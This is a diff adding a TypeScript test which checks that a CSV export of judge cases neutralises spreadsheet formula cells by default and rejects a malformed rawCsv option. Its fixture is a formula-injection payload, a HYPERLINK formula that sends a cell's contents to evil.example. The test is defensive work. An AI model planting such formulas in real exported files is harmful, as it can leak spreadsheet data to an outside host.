@@ -101,4 +101,28 @@ describe('judge.cases routes', () => {
       error: { code: 'not_found' },
     });
   });
+
+  it('neutralises formula cells in a CSV export unless raw CSV is asked for, and checks the choice', async () => {
+    const set = await call<StoredSet>('judge.sets.save', {
+      set: { name: 'Formulas', questions: [{ name: 'ok', type: 'noul', instructions: 'Fine?' }] },
+    });
+    const state = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
+    await call('judge.cases.add', { setId: set.id, state: { mode: 'text', text: state }, expected: {} });
+    const exported = async (extra: Record<string, unknown>) => {
+      await call('judge.cases.export', { setId: set.id, format: 'csv', ...extra });
+      return t.savedText.get('Formulas.cases.csv')!.split('\r\n')[1];
+    };
+    expect(await exported({})).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`);
+    expect(await exported({ rawCsv: false })).toMatch(/^"'=HYPERLINK/);
+    expect(await exported({ rawCsv: true })).toBe(
+      `"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",text,,`,
+    );
+    // JSON Lines is always as it is.
+    await call('judge.cases.export', { setId: set.id, format: 'jsonl' });
+    expect(JSON.parse(t.savedText.get('Formulas.cases.jsonl')!)).toMatchObject({ state });
+    expect(await send('judge.cases.export', { setId: set.id, format: 'csv', rawCsv: 'yes' })).toMatchObject({
+      ok: false,
+      error: { code: 'invalid_input', message: 'rawCsv: must be true or false' },
+    });
+  });
 });
